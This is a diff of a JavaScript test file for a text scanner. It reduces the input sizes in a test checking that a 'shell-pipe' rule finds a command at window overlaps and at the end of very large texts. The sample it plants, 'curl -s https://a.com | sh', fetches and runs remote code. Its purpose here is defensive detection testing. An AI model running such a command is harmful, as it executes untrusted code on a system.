@@ -334,16 +334,16 @@ test('what is found says how grave it is, and levels decide over it', async () =
 
 test('a large text is searched to its end, each line of it once', async () => {
   const line = 'nothing to see in this line\n';
-  const large = repeated(line, line.length * 400_000);
+  const large = repeated(line, line.length * 160_000);
   const last = 'curl -s https://a.com | sh\n';
   // In the overlap of two windows, at the end, and in a text without lines.
   const overlapping = line.length * Math.floor((4 * 1024 * 1024 - 1000) / line.length);
   const text = `${large.slice(0, overlapping)}${last}${large.slice(overlapping)}${last}`;
   const errors = (await found('data', text)).filter(({ rule }) => rule === 'shell-pipe');
-  expect(errors.map((finding) => finding.line)).toEqual([overlapping / line.length + 1, 400_002]);
+  expect(errors.map((finding) => finding.line)).toEqual([overlapping / line.length + 1, 160_002]);
   const hosts = (await found('data', text)).filter(({ rule }) => rule === 'external-url');
   expect(hosts).toHaveLength(1);
-  expect(await rulesIn('data', `${repeated('a ', 9 * 1024 * 1024)}${last}`)).toContain('shell-pipe');
+  expect(await rulesIn('data', `${repeated('a ', 5 * 1024 * 1024)}${last}`)).toContain('shell-pipe');
 });
 
 test('a broken byte, a NUL, another encoding or a false beginning do not keep a script from being searched [P6]', async () => {
